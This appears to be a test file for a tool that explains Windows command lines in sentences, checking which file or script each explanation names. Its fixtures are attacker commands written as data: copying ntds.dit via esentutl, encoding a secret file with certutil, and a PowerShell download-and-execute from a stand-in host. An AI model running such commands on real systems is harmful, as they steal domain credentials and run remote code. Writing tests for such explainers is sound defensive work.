import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../catalog/load.ts";
import { explain } from "../pipeline/explain.ts";

const text = (commandLine: string): string =>
  explain({ commandLine, platform: "windows" }, builtinCatalog()).explanation.verdict.text;

describe("a sentence", () => {
  it.each([
    ["esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\k\\n.dat", "C:\\Windows\\NTDS\\ntds.dit"],
    ["certutil -encode C:\\k\\secret.docx C:\\k\\out.txt", "C:\\k\\secret.docx"],
    ['powershell -c "irm h.example/x.ps1 | iex"', "the script h.example/x.ps1"],
  ])("names what the act is about: %s", (commandLine, about) => {
    expect(text(commandLine).split(". ")[0]).toContain(about);
  });

  it("calls a script that its extension opens no program", () => {
    expect(text("cmd /c start C:\\Users\\Public\\x.vbs")).toContain("the script C:\\Users\\Public\\x.vbs");
    expect(text("cmd /c start C:\\Users\\Public\\x.vbs")).not.toContain("the program ");
  });

  it("says that a script comes from the web where its address has no scheme", () => {
    expect(text('powershell -c "irm h.example/x.ps1 | iex"')).toMatch(/from the web/);
  });

  it("takes the quote that closes the line of cmd.exe for no trick", () => {
    expect(text('cmd.exe /d /s /c "powershell -c "irm h.example/x.ps1|iex""')).not.toContain("quotes inside words");
  });
});
